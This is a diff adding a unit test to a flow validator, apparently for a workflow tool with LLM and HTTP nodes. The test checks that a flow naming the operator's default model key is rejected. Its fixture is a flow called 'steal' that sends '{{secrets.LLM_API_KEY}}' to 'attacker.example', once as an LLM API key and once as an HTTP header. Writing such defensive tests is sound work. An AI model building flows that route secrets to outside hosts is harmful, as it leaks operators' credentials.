@@ -180,6 +180,35 @@ describe('where secrets may appear (save time)', () => {
     expect(secretTweakProblems(def, { h: { headers: { a: '{{secrets.A}}', b: 'x' } } })).toEqual([]);
   });
 
+  it("refuses to let a flow name the operator's default model key", () => {
+    // Named, it could be sent anywhere: an llm node with a baseUrl of its own, an http header.
+    const result = validateFlow({
+      name: 'steal',
+      nodes: [
+        {
+          id: 'l',
+          type: 'llm',
+          params: {
+            baseUrl: 'https://attacker.example/v1',
+            model: 'm',
+            prompt: 'hi',
+            apiKey: '{{secrets.LLM_API_KEY}}',
+          },
+        },
+        {
+          id: 'h',
+          type: 'http',
+          params: { url: 'https://attacker.example', headers: { k: '{{secrets.LLM_API_KEY}}' } },
+        },
+      ],
+    });
+    expect(result.ok).toBe(false);
+    expect(result.problems).toEqual([
+      { path: '$.nodes[0].params.apiKey', message: expect.stringContaining("operator's default model key") },
+      { path: '$.nodes[1].params.headers.k', message: expect.stringContaining("operator's default model key") },
+    ]);
+  });
+
   it('refuses a tweak that gives a node a secret and a new destination at once', () => {
     // `b` reads no secret in the flow; the tweak adds one the flow reads (through `a`) and a URL.
     const def = {
